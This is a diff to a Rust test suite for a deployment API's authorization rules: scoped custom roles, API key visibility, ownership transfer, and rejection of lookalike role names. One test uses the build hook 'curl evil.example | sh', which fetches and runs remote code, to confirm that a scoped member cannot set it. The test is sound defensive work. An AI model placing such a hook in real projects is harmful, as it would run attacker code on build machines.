@@ -670,18 +670,27 @@ async fn a_custom_role_with_a_resource_scope_reaches_only_what_it_names() {
             "{v}"
         );
     }
-    for body in [
-        roll(&theirs, &[&staging]),
-        roll(&mine, &[&staging, &prod]),
-        json!({"project_id": mine, "ref": "main", "selector": {"labels": {"env": "prod"}}}),
-    ] {
+    for body in [roll(&theirs, &[&staging]), roll(&mine, &[&staging, &prod])] {
         let (status, v) = t.post("/v1/rollouts", &cookie, body).await;
         assert_eq!(
             (status, error_code(&v)),
             (403, "outside_resource_scope"),
             "{v}"
         );
+        assert!(
+            !v.to_string().contains(&prod),
+            "the refusal names no server: {v}"
+        );
     }
+    // A selector resolves within the scope: it matches nothing outside, and tells nothing.
+    let (status, v) = t
+        .post(
+            "/v1/rollouts",
+            &cookie,
+            json!({"project_id": mine, "ref": "main", "selector": {"labels": {"env": "prod"}}}),
+        )
+        .await;
+    assert_eq!((status, error_code(&v)), (422, "no_targets"), "{v}");
     assert_eq!(count("deployments").await, deployments);
     assert_eq!(count("rollouts").await, rollouts);
     let (status, v) = t
@@ -722,6 +731,135 @@ async fn a_custom_role_with_a_resource_scope_reaches_only_what_it_names() {
     ] {
         assert!(actions.iter().any(|x| x == a), "{a} not audited");
     }
+}
+
+#[tokio::test]
+async fn a_scoped_custom_member_changes_no_project_touches_no_other_key_and_ownership_clears_both()
+{
+    let t = TestPlane::start().await;
+    let (owner, _) = t.signup("owner@limits.example", PW).await;
+    let (status, project) = t
+        .post(
+            "/v1/projects",
+            &owner,
+            json!({"name": "shared", "repo_url": "https://example.com/x.git", "deploy_path": "/srv/shared"}),
+        )
+        .await;
+    assert_eq!(status, 201, "{project}");
+    let project = id_of(&project);
+    let (status, key) = t
+        .post(
+            "/v1/api-keys",
+            &owner,
+            json!({"name": "ci", "scopes": ["servers:read"]}),
+        )
+        .await;
+    assert_eq!(status, 201, "{key}");
+    let owner_key = key["secret"].as_str().expect("secret").to_owned();
+    let owner_key_id = key["id"].as_str().expect("key id").to_owned();
+    let (status, _) = t
+        .post(
+            "/v1/roles",
+            &owner,
+            json!({"name": "tinkerer", "permissions": ["servers:read", "projects:read",
+                   "projects:write", "api_keys:read", "api_keys:write"]}),
+        )
+        .await;
+    assert_eq!(status, 201);
+    let (member, member_id) = join(&t, &owner, "tinkerer@limits.example", "viewer").await;
+    let (status, v) = t
+        .patch(
+            &format!("/v1/members/{member_id}"),
+            &owner,
+            json!({"role": "tinkerer", "resource_scope": {"server_labels": {"env": "staging"}}}),
+        )
+        .await;
+    assert_eq!(status, 200, "{v}");
+
+    // A project reaches every server it is deployed to: a server-scoped member may read it,
+    // not change it.
+    let (status, v) = t
+        .patch(
+            &format!("/v1/projects/{project}"),
+            &member,
+            json!({"hooks": {"build": ["curl evil.example | sh"]}}),
+        )
+        .await;
+    assert_eq!(
+        (status, error_code(&v)),
+        (403, "outside_resource_scope"),
+        "{v}"
+    );
+    let r = t
+        .http
+        .delete(t.url(&format!("/v1/projects/{project}")))
+        .header("cookie", &member)
+        .send()
+        .await
+        .expect("delete");
+    assert_eq!(r.status(), 403);
+    let (status, v) = t.get(&format!("/v1/projects/{project}"), &owner).await;
+    assert_eq!(status, 200);
+    assert_eq!(v["hooks"]["build"], json!([]), "{v}");
+
+    // Keys: a custom role sees and revokes its own only.
+    let (_, listed) = t.get("/v1/api-keys", &member).await;
+    assert_eq!(
+        listed["api_keys"].as_array().map(Vec::len),
+        Some(0),
+        "{listed}"
+    );
+    let r = t
+        .http
+        .delete(t.url(&format!("/v1/api-keys/{owner_key_id}")))
+        .header("cookie", &member)
+        .send()
+        .await
+        .expect("revoke");
+    assert_eq!(r.status(), 404);
+    assert_eq!(t.get_with_key("/v1/servers", &owner_key).await.0, 200);
+    let (status, _) = t
+        .post(
+            "/v1/api-keys",
+            &member,
+            json!({"name": "mine", "scopes": ["servers:read"]}),
+        )
+        .await;
+    assert_eq!(status, 201);
+    let (_, listed) = t.get("/v1/api-keys", &member).await;
+    assert_eq!(listed["api_keys"].as_array().map(Vec::len), Some(1));
+    let (_, listed) = t.get("/v1/api-keys", &owner).await;
+    assert_eq!(
+        listed["api_keys"].as_array().map(Vec::len),
+        Some(2),
+        "the owner sees all"
+    );
+
+    // Ownership handed to them: the built-in owner role, the whole account.
+    let (status, v) = t
+        .post(
+            "/v1/account/transfer-ownership",
+            &owner,
+            json!({"user_id": member_id}),
+        )
+        .await;
+    assert!(status < 300, "{status} {v}");
+    let me = t.get("/v1/auth/me", &member).await.1;
+    assert_eq!(me["user"]["role"], "owner", "{me}");
+    assert_eq!(me["resource_scope"], Value::Null);
+    assert!(me["permissions"]
+        .as_array()
+        .expect("permissions")
+        .iter()
+        .any(|p| p == "account:owner"));
+    let (status, _) = t
+        .patch(
+            &format!("/v1/projects/{project}"),
+            &member,
+            json!({"name": "renamed"}),
+        )
+        .await;
+    assert_eq!(status, 200);
 }
 
 #[tokio::test]
@@ -814,6 +952,44 @@ async fn bad_custom_roles_and_scopes_are_refused_and_change_nothing() {
         let (s, v) = t.patch(&member, &admin, body.clone()).await;
         assert_eq!((s, error_code(&v)), (status, code), "{body}: {v}");
     }
+    // Plain ASCII names only: nothing that could pass for a built-in role.
+    for name in ["\u{430}dmin", "owner\u{200b}", "ops\u{202e}"] {
+        let (s, v) = t
+            .post(
+                "/v1/roles",
+                &admin,
+                json!({"name": name, "permissions": ["servers:read"]}),
+            )
+            .await;
+        assert_eq!((s, error_code(&v)), (422, "invalid_name"), "{name:?}");
+    }
+    // A scope's labels follow the rules of server labels (no NUL, which PostgreSQL refuses).
+    let (s, v) = t
+        .patch(
+            &member,
+            &admin,
+            json!({"resource_scope": {"server_labels": {"env": "a\u{0}b"}}}),
+        )
+        .await;
+    assert_eq!((s, error_code(&v)), (422, "invalid_resource_scope"), "{v}");
+    // Admins manage members and the account, which no scope narrows: no scope for them.
+    let (_, other_admin) = join(&t, &owner, "admin2@roles.example", "admin").await;
+    let (s, v) = t
+        .patch(
+            &format!("/v1/members/{other_admin}"),
+            &owner,
+            json!({"resource_scope": {"server_labels": {"env": "x"}}}),
+        )
+        .await;
+    assert_eq!((s, error_code(&v)), (422, "invalid_resource_scope"), "{v}");
+    let (s, v) = t
+        .patch(
+            &member,
+            &owner,
+            json!({"role": "admin", "resource_scope": {"server_labels": {"env": "x"}}}),
+        )
+        .await;
+    assert_eq!((s, error_code(&v)), (422, "invalid_resource_scope"), "{v}");
     // Owners reach everything: no scope for them, and an admin cannot touch them anyway.
     let (s, v) = t
         .patch(
